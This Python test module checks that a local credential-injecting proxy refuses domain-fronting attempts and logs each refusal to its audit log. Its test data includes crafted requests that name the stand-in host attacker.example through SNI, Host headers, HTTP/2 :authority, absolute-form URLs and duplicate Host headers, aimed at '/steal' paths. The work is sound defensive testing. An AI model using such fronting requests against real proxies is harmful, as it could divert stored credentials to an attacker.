"""Domain fronting through the real vault: a client that CONNECTs to a credentialed host and
then names another one (TLS SNI, `Host`, HTTP/2 `:authority`, an absolute-form URL) is
refused before anything credentialed is built, and the other host never sees a request.

The upstream is a shared front (tests/fakes/shared_front.py) serving both the credentialed
name (127.0.0.1) and the attacker's (attacker.example) on one address, the way a CDN does.
"""

from __future__ import annotations

import asyncio
import select
import socket
import ssl
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import h2.config
import h2.connection
import h2.events
import pytest
import pytest_asyncio

from proxy.audit import read_entries
from proxy.process import VaultProcess
from proxy.secrets import SecretStore
from tests.fakes.shared_front import SharedFront
from tests.fakes.tls import make_ca_and_server_cert

pytestmark = pytest.mark.asyncio(loop_scope="module")

TOKEN = "front-REAL-token-4b1d9e77aa"
ATTACKER = "attacker.example"


@pytest.fixture(scope="module")
def dirs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    base = tmp_path_factory.mktemp("pin")
    d = {k: base / k for k in ("cfg", "state", "main", "team", "certs")}
    for p in d.values():
        p.mkdir(mode=0o700)
    return d


@pytest.fixture(scope="module")
def fronts(dirs: dict[str, Path]) -> Iterator[tuple[SharedFront, SharedFront, Path]]:
    """(TLS front, plain-HTTP front, CA that signed the TLS front's certificate)."""
    ca, cert, key = make_ca_and_server_cert(dirs["certs"], names=("localhost", ATTACKER))
    tls, plain = SharedFront((cert, key)), SharedFront()
    yield tls, plain, ca
    tls.close()
    plain.close()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def vault(fronts, dirs: dict[str, Path]) -> AsyncIterator[VaultProcess]:  # type: ignore[no-untyped-def]
    tls, plain, ca = fronts
    # "team" (non-main) may reach 127.0.0.1 only: attacker.example is NOT on its allowlist.
    (dirs["cfg"] / "config.toml").write_text('[vault.egress]\nteam = ["127.0.0.1"]\n')
    store = SecretStore(dirs["cfg"])
    for front in (tls, plain):
        store.add(
            f"front{front.port}",
            TOKEN,
            f"127.0.0.1:{front.port}",
            "Authorization",
            "Bearer {value}",
            groups=["main", "team"],
        )
    vp = VaultProcess(
        dirs["cfg"],
        dirs["state"],
        allow_private=[f"127.0.0.1:{tls.port}", f"127.0.0.1:{plain.port}"],
        upstream_ca=ca,
    )
    await vp.start(timeout=30)
    await vp.open_group("main", dirs["main"] / "vault.sock")
    await vp.open_group("team", dirs["team"] / "vault.sock")
    yield vp
    await vp.stop()


# -- blocking clients (run in threads) --------------------------------------------------------


def _read_head(sock: socket.socket) -> bytes:
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(1)
        if not chunk:
            break
        data += chunk
    return data


def _read_all(sock: socket.socket) -> bytes:
    out = b""
    while chunk := sock.recv(65536):
        out += chunk
    return out


def open_tunnel(
    sock_path: Path, port: int, cafile: Path, server_hostname: str, alpn: list[str] | None = None
) -> ssl.SSLSocket:
    """CONNECT 127.0.0.1:<port> through a group socket, then TLS with the given SNI."""
    raw = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    raw.settimeout(15)
    raw.connect(str(sock_path))
    raw.sendall(f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode())
    head = _read_head(raw)
    assert head.startswith(b"HTTP/1.1 200"), head
    ctx = ssl.create_default_context(cafile=str(cafile))
    if alpn:
        ctx.set_alpn_protocols(alpn)
    return ctx.wrap_socket(raw, server_hostname=server_hostname)


def h1_in_tunnel(
    sock_path: Path, port: int, cafile: Path, sni: str, request_line: str, host: str | None
) -> bytes:
    tls = open_tunnel(sock_path, port, cafile, sni)
    try:
        host_line = f"Host: {host}\r\n" if host is not None else ""
        auth = "Authorization: Bearer placeholder\r\n"
        tls.sendall(f"{request_line}\r\n{host_line}{auth}Connection: close\r\n\r\n".encode())
        return _read_all(tls)
    finally:
        tls.close()


def h2_in_tunnel(
    sock_path: Path, port: int, cafile: Path, authority: str, path: str = "/h2", data: bytes = b""
) -> tuple[int, bytes]:
    """One HTTP/2 request with the given :authority and :path (a POST of `data` if any)."""
    tls = open_tunnel(sock_path, port, cafile, "127.0.0.1", alpn=["h2"])
    try:
        assert tls.selected_alpn_protocol() == "h2"
        conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        conn.initiate_connection()
        conn.send_headers(
            1,
            [
                (":method", "POST" if data else "GET"),
                (":scheme", "https"),
                (":authority", authority),
                (":path", path),
                ("authorization", "Bearer placeholder"),
                *([("content-length", str(len(data)))] if data else []),
            ],
            end_stream=not data,
        )
        offset = 0
        while offset < len(data):
            window = min(conn.local_flow_control_window(1), conn.max_outbound_frame_size)
            if window <= 0:  # wait for the vault to open the window
                conn.receive_data(tls.recv(65536))
                tls.sendall(conn.data_to_send())
                continue
            piece = data[offset : offset + window]
            offset += len(piece)
            conn.send_data(1, piece, end_stream=offset >= len(data))
            tls.sendall(conn.data_to_send())
        tls.sendall(conn.data_to_send())
        status, body, done = 0, b"", False
        while not done:
            data = tls.recv(65536)
            if not data:
                break
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived):
                    status = int(dict(event.headers)[":status"])
                elif isinstance(event, h2.events.DataReceived):
                    body += event.data
                    conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                elif isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                    done = True
            tls.sendall(conn.data_to_send())
        return status, body
    finally:
        tls.close()


def plain_proxy_request(sock_path: Path, url: str, host: str) -> bytes:
    raw = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    raw.settimeout(15)
    raw.connect(str(sock_path))
    try:
        raw.sendall(
            f"GET {url} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer placeholder\r\n"
            "Connection: close\r\n\r\n".encode()
        )
        return _read_all(raw)
    finally:
        raw.close()


def _sock(dirs: dict[str, Path], group: str) -> Path:
    return dirs[group] / "vault.sock"


def _assert_never_reached_attacker(front: SharedFront) -> None:
    assert front.seen_by(ATTACKER) == []
    assert all(
        r.headers.get("authorization") != f"Bearer {TOKEN}" or r.vhost == "127.0.0.1" for r in front.requests
    )


REASONS = ("SNI", "Host header", ":authority", "absolute-form", "request target")


async def _audited_refusals(vault: VaultProcess) -> list[dict]:
    """The vault's audit lines for pinning refusals, once every kind of refusal is in."""
    found: list[dict] = []
    for _ in range(50):  # the audit log is flushed every 0.5 s
        found = [e for e in read_entries(vault.state_dir) if "host mismatch" in str(e.get("refusal"))]
        if all(any(r in e["refusal"] for e in found) for r in REASONS):
            break
        await asyncio.sleep(0.2)
    return found


# -- the control: the honest request works and carries the credential ----------------------------


async def test_matching_host_gets_the_credential(vault: VaultProcess, fronts, dirs) -> None:
    tls, _, _ = fronts
    ca = vault.ca_cert_path  # the client trusts only the vault's CA
    tls.requests.clear()
    for host in (f"127.0.0.1:{tls.port}", f"127.0.0.1.:{tls.port}"):
        resp = await asyncio.to_thread(
            h1_in_tunnel, _sock(dirs, "main"), tls.port, ca, "127.0.0.1", "GET /ok HTTP/1.1", host
        )
        assert resp.startswith(b"HTTP/1.1 200"), resp
    status, body = await asyncio.to_thread(
        h2_in_tunnel, _sock(dirs, "main"), tls.port, ca, f"127.0.0.1:{tls.port}"
    )
    assert status == 200, body
    assert len(tls.requests) == 3
    assert all(r.headers["authorization"] == f"Bearer {TOKEN}" for r in tls.requests)
    assert all(r.vhost == "127.0.0.1" and r.sni is None for r in tls.requests)  # no SNI for an IP


# -- the attacks --------------------------------------------------------------------------------


@pytest.mark.parametrize("group", ["main", "team"])
async def test_client_sni_naming_another_host_is_refused(
    vault: VaultProcess, fronts, dirs, group: str
) -> None:
    tls, _, _ = fronts
    ca = vault.ca_cert_path  # the client trusts only the vault's CA
    tls.requests.clear()
    resp = await asyncio.to_thread(
        h1_in_tunnel,
        _sock(dirs, group),
        tls.port,
        ca,
        ATTACKER,
        "GET /steal HTTP/1.1",
        f"127.0.0.1:{tls.port}",
    )
    assert resp.startswith(b"HTTP/1.1 421"), resp
    assert b"SNI" in resp and ATTACKER.encode() in resp
    assert tls.requests == []
    _assert_never_reached_attacker(tls)


@pytest.mark.parametrize(
    "host", [ATTACKER, f"{ATTACKER}:{{port}}", "127.0.0.1", "127.0.0.1:1", "localhost:{port}"]
)
@pytest.mark.parametrize("group", ["main", "team"])
async def test_host_header_naming_another_host_is_refused(
    vault: VaultProcess, fronts, dirs, group: str, host: str
) -> None:
    tls, _, _ = fronts
    ca = vault.ca_cert_path  # the client trusts only the vault's CA
    tls.requests.clear()
    host = host.format(port=tls.port)
    resp = await asyncio.to_thread(
        h1_in_tunnel, _sock(dirs, group), tls.port, ca, "127.0.0.1", "GET /steal HTTP/1.1", host
    )
    assert resp.startswith(b"HTTP/1.1 421"), resp
    assert b"Host header" in resp
    assert tls.requests == []
    _assert_never_reached_attacker(tls)


async def test_two_host_headers_are_refused(vault: VaultProcess, fronts, dirs) -> None:
    tls, _, _ = fronts
    ca = vault.ca_cert_path  # the client trusts only the vault's CA
    tls.requests.clear()
    resp = await asyncio.to_thread(
        h1_in_tunnel,
        _sock(dirs, "main"),
        tls.port,
        ca,
        "127.0.0.1",
        f"GET /steal HTTP/1.1\r\nHost: 127.0.0.1:{tls.port}",
        ATTACKER,
    )
    assert resp.startswith((b"HTTP/1.1 400", b"HTTP/1.1 421")), resp
    assert tls.requests == []


@pytest.mark.parametrize("group", ["main", "team"])
async def test_h2_authority_naming_another_host_is_refused(
    vault: VaultProcess, fronts, dirs, group: str
) -> None:
    tls, _, _ = fronts
    ca = vault.ca_cert_path  # the client trusts only the vault's CA
    tls.requests.clear()
    status, body = await asyncio.to_thread(h2_in_tunnel, _sock(dirs, group), tls.port, ca, ATTACKER)
    assert status == 421, body
    assert b":authority" in body
    assert tls.requests == []
    _assert_never_reached_attacker(tls)


async def test_h2_upload_streams_through_intact(vault: VaultProcess, fronts, dirs) -> None:
    tls, _, _ = fronts
    tls.requests.clear()
    data = bytes(range(256)) * 256 * 20  # 1.25 MiB: streamed, not buffered
    status, body = await asyncio.to_thread(
        h2_in_tunnel, _sock(dirs, "main"), tls.port, vault.ca_cert_path, f"127.0.0.1:{tls.port}", "/up", data
    )
    assert status == 200, body
    [req] = tls.requests
    assert req.body_len == len(data) and req.complete
    assert req.headers["authorization"] == f"Bearer {TOKEN}"


async def test_h2_path_holding_a_url_of_another_host_is_refused(vault: VaultProcess, fronts, dirs) -> None:
    tls, _, _ = fronts
    ca = vault.ca_cert_path  # the client trusts only the vault's CA
    tls.requests.clear()
    status, body = await asyncio.to_thread(
        h2_in_tunnel, _sock(dirs, "main"), tls.port, ca, f"127.0.0.1:{tls.port}", f"https://{ATTACKER}/steal"
    )
    assert status == 421, body
    assert tls.requests == []
    _assert_never_reached_attacker(tls)


@pytest.mark.parametrize("group", ["main", "team"])
async def test_absolute_form_inside_tunnel_naming_another_host_is_refused(
    vault: VaultProcess, fronts, dirs, group: str
) -> None:
    tls, _, _ = fronts
    ca = vault.ca_cert_path  # the client trusts only the vault's CA
    tls.requests.clear()
    resp = await asyncio.to_thread(
        h1_in_tunnel,
        _sock(dirs, group),
        tls.port,
        ca,
        "127.0.0.1",
        f"GET https://{ATTACKER}/steal HTTP/1.1",
        f"127.0.0.1:{tls.port}",
    )
    assert resp.startswith(b"HTTP/1.1 421"), resp
    assert b"absolute-form" in resp
    assert tls.requests == []
    _assert_never_reached_attacker(tls)


@pytest.mark.parametrize("group", ["main", "team"])
async def test_plain_proxy_request_with_another_host_header_is_refused(
    vault: VaultProcess, fronts, dirs, group: str
) -> None:
    _, plain, _ = fronts
    plain.requests.clear()
    resp = await asyncio.to_thread(
        plain_proxy_request, _sock(dirs, group), f"http://127.0.0.1:{plain.port}/steal", ATTACKER
    )
    assert resp.startswith(b"HTTP/1.1 421"), resp
    assert plain.requests == []
    # the honest form of the same request goes through, with the credential
    resp = await asyncio.to_thread(
        plain_proxy_request,
        _sock(dirs, group),
        f"http://127.0.0.1:{plain.port}/ok",
        f"127.0.0.1:{plain.port}",
    )
    assert resp.startswith(b"HTTP/1.1 200"), resp
    assert [r.headers["authorization"] for r in plain.requests] == [f"Bearer {TOKEN}"]
    _assert_never_reached_attacker(plain)


async def test_refusals_are_in_the_audit_log(vault: VaultProcess, fronts, dirs) -> None:
    entries = await _audited_refusals(vault)
    assert {e["status"] for e in entries} == {400, 421}  # 400: two Host headers
    assert {e["group"] for e in entries} == {"main", "team"}
    assert all(e["secret"] is None for e in entries)
    reasons = " ".join(e["refusal"] for e in entries)
    for what in REASONS:
        assert what in reasons
    assert TOKEN not in (vault.state_dir / "audit.jsonl").read_text()


def upload_in_tunnel(sock_path: Path, port: int, cafile: Path, host: str) -> tuple[bytes, int]:
    """POST declaring 1 GiB through a TLS tunnel; send at most 64 MiB while watching for an answer."""
    tls = open_tunnel(sock_path, port, cafile, "127.0.0.1")
    tls.settimeout(30)
    sent, reply, chunk = 0, b"", b"\0" * (1 << 20)
    try:
        tls.sendall(
            f"POST /upload HTTP/1.1\r\nHost: {host}\r\nContent-Length: {1 << 30}\r\n"
            "Authorization: Bearer placeholder\r\n\r\n".encode()
        )
        tls.setblocking(False)
        while sent < 64 << 20 and b"\r\n\r\n" not in reply:
            try:
                data = tls.recv(65536)
                if not data:
                    break
                reply += data
                continue
            except (ssl.SSLWantReadError, BlockingIOError):
                pass
            try:
                sent += tls.send(chunk)
            except (ssl.SSLWantWriteError, BlockingIOError):
                select.select([tls], [tls], [], 1)
        tls.settimeout(30)
        while b"\r\n\r\n" not in reply and (data := tls.recv(65536)):
            reply += data
    except OSError:
        pass
    finally:
        tls.close()
    return reply, sent


async def test_refused_upload_in_a_tunnel_is_answered_before_its_body(
    vault: VaultProcess, fronts, dirs
) -> None:
    tls, _, _ = fronts
    tls.requests.clear()
    reply, sent = await asyncio.to_thread(
        upload_in_tunnel, _sock(dirs, "main"), tls.port, vault.ca_cert_path, ATTACKER
    )
    assert reply.startswith(b"HTTP/1.1 421"), (reply[:300], sent)
    assert sent < 64 << 20  # the answer came while the body was still being sent
    assert tls.requests == []
